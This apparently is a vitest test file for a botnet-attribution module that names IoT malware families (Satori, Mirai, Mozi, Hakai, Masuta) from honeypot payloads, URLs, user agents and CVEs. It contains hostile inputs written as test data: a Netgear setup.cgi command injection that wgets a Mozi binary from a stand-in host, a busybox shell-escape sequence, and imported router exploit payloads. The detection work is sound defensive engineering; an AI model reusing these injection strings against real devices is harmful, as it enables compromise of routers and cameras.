import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { InputError } from "../schema/errors.js";
import {
  DLINK_REQUEST,
  GPON_REQUEST,
  MIRAI_CREDENTIALS,
  TELNET_COMMANDS,
  TELNET_MIRAI_IAC,
  UC_REQUEST_LINE,
  ucBody,
} from "../simulate/payloads.js";
import {
  attribute,
  defaultFamiliesPath,
  type Evidence,
  jsonErrorAt,
  loadFamilies,
} from "./attribution.js";

const latin1 = (...parts: Uint8Array[]): string =>
  parts.map((p) => Buffer.from(p).toString("latin1")).join("");
const evidence = (e: Partial<Evidence>): Evidence => ({
  payload: "",
  urls: [],
  userAgents: [],
  cves: [],
  ...e,
});
const set = loadFamilies();

function tempFile(name: string, text: string): string {
  const dir = mkdtempSync(join(tmpdir(), "portent-families-"));
  const p = join(dir, name);
  writeFileSync(p, text);
  return p;
}

describe("the shipped families file", () => {
  it("loads, and every marker names its source", () => {
    expect(set.files).toEqual([defaultFamiliesPath()]);
    expect(set.families.map((f) => f.name)).toContain("satori");
    for (const f of set.families) {
      expect(f.markers.length).toBeGreaterThan(0);
      for (const m of f.markers) expect(m.source.length).toBeGreaterThan(10);
    }
  });
});

describe("attribute on the satori-2018 simulator's payloads", () => {
  it("names satori for the uc-httpd overflow (CVE-2018-10088)", () => {
    const a = attribute(
      set,
      evidence({ payload: latin1(UC_REQUEST_LINE, ucBody(90)), cves: ["CVE-2018-10088"] }),
    );
    expect(a?.family).toBe("satori");
    expect(a?.confidence).toBeGreaterThanOrEqual(0.6);
    expect(a?.reasons.join("\n")).toContain("CVE-2018-10088");
  });

  it("names satori for the DSL-2750B injection, on its payload shape and downloader name", () => {
    const a = attribute(
      set,
      evidence({
        payload: latin1(DLINK_REQUEST),
        urls: ["http://198.51.100.7/r"],
        cves: ["CVE-2016-20017"],
      }),
    );
    expect(a?.family).toBe("satori");
    expect(a?.confidence).toBeGreaterThan(0.75);
    expect(a?.reasons).toHaveLength(3);
  });

  it("names satori with high confidence when the real 2018 downloader host appears", () => {
    const payload = latin1(DLINK_REQUEST).replace("198.51.100.7", "185.62.190.191");
    const a = attribute(set, evidence({ payload, urls: ["http://185.62.190.191/r"] }));
    expect(a?.family).toBe("satori");
    expect(a?.confidence).toBeGreaterThan(0.95);
  });

  it("names no family for the GPON wave, which several families shared", () => {
    const a = attribute(
      set,
      evidence({
        payload: latin1(GPON_REQUEST),
        urls: ["http://198.51.100.9/g"],
        userAgents: ["Hello, World"],
        cves: ["CVE-2018-10561", "CVE-2018-10562"],
      }),
    );
    expect(a).toBeUndefined();
  });

  it("names mirai for the telnet loader (ECCHI probe and the post-login sequence)", () => {
    const [user, pass] = MIRAI_CREDENTIALS[0] as readonly [Uint8Array, Uint8Array];
    const payload = latin1(TELNET_MIRAI_IAC, user, pass, ...TELNET_COMMANDS);
    const a = attribute(set, evidence({ payload }));
    expect(a?.family).toBe("mirai");
    expect(a?.confidence).toBeCloseTo(0.8, 3);
  });
});

describe("attribute", () => {
  it("prefers the family with the stronger evidence", () => {
    const payload = "enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox SATORI\r\n";
    expect(attribute(set, evidence({ payload }))?.family).toBe("satori");
    expect(attribute(set, evidence({ payload: payload.replace("SATORI", "MASUTA") }))?.family).toBe(
      "masuta",
    );
  });

  it("reads percent- and plus-encoded payloads", () => {
    const payload =
      "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://198.51.100.7/Mozi%2Em+-O+/tmp/n";
    expect(attribute(set, evidence({ payload }))?.family).toBe("mozi");
  });

  it("matches URL, user-agent and CVE markers on their own evidence only", () => {
    expect(
      attribute(set, evidence({ urls: ["http://198.51.100.7/bins/x.Mozi.m"] })),
    ).toBeUndefined();
    expect(attribute(set, evidence({ urls: ["http://198.51.100.7/Mozi.a"] }))?.family).toBe("mozi");
    expect(attribute(set, evidence({ userAgents: ["Hakai/2.0"] }))?.family).toBe("hakai");
    expect(attribute(set, evidence({ payload: "User-Agent: Hakai/2.0" }))).toBeUndefined();
    expect(attribute(set, evidence({ cves: ["cve-2018-10088"] }))?.family).toBe("satori");
  });

  it("combines weights as independent evidence and stays under the threshold for weak hints", () => {
    const one = attribute(set, evidence({ urls: ["http://198.51.100.7/bins/mirai.arm7"] }));
    expect(one?.family).toBe("mirai");
    expect(one?.confidence).toBe(0.438);
    expect(attribute(set, evidence({ urls: ["http://198.51.100.7/x.arm7"] }))).toBeUndefined();
    expect(attribute(set, evidence({ payload: "GET / HTTP/1.1\r\n\r\n" }))).toBeUndefined();
  });
});

describe("loadFamilies with user files", () => {
  it("adds families and markers, and replaces them on request", () => {
    const extra = tempFile(
      "extra.json",
      JSON.stringify({
        minConfidence: 0.5,
        families: [
          {
            name: "examplebot",
            markers: [
              { kind: "payload", value: "EXAMPLEBOT", weight: 0.9, source: "our honeypot" },
            ],
          },
          {
            name: "satori",
            replace: true,
            markers: [{ kind: "cve", value: "CVE-2018-10088", weight: 0.4, source: "our view" }],
          },
        ],
      }),
    );
    const s = loadFamilies([extra]);
    expect(s.files).toHaveLength(2);
    expect(s.minConfidence).toBe(0.5);
    expect(attribute(s, evidence({ payload: "x EXAMPLEBOT y" }))?.family).toBe("examplebot");
    expect(attribute(s, evidence({ cves: ["CVE-2018-10088"] }))).toBeUndefined();
    expect(s.families.find((f) => f.name === "satori")?.markers).toHaveLength(1);
  });

  it("loads only the user's files when the defaults are off", () => {
    const only = tempFile("only.json", '{"families": []}');
    expect(loadFamilies([only], { defaults: false }).families).toEqual([]);
  });

  it("reports bad JSON as an InputError with the file, line and column", () => {
    const bad = tempFile("bad.json", '{\n  "families": [\n    {"name": "x",}\n  ]\n}\n');
    let err: unknown;
    try {
      loadFamilies([bad]);
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(InputError);
    expect((err as InputError).file).toBe(bad);
    expect((err as Error).message).toContain("line 3, column 18");
  });

  it("reports every schema problem at once, with its path", () => {
    const bad = tempFile(
      "schema.json",
      JSON.stringify({
        families: [
          { name: "Bad Name", markers: [{ kind: "body", value: "", weight: 2 }] },
          {
            name: "ok",
            markers: [{ kind: "url", match: "regex", value: "(?=x)", weight: 0.5, source: "s" }],
          },
        ],
      }),
    );
    expect(() => loadFamilies([bad])).toThrow(
      /families\[0\]\.name.*families\[0\]\.markers\[0\]\.kind.*\.value.*\.weight.*\.source.*families\[1\]\.markers\[0\]\.value: not a valid RE2/,
    );
  });

  it("names an unreadable file", () => {
    expect(() => loadFamilies(["/nonexistent/families.json"])).toThrow(InputError);
  });
});

describe("jsonErrorAt", () => {
  it("finds the first syntax error, or -1", () => {
    expect(jsonErrorAt('{"a": [1, 2, {"b": null}], "c": "\\u00e9"}')).toBe(-1);
    expect(jsonErrorAt('{"a":}')).toBe(5);
    expect(jsonErrorAt('{"a":tru}')).toBe(5);
    expect(jsonErrorAt("[1,2")).toBe(4);
    expect(jsonErrorAt("")).toBe(0);
    expect(jsonErrorAt("{} x")).toBe(3);
    expect(jsonErrorAt('"a\nb"')).toBe(2);
  });
});
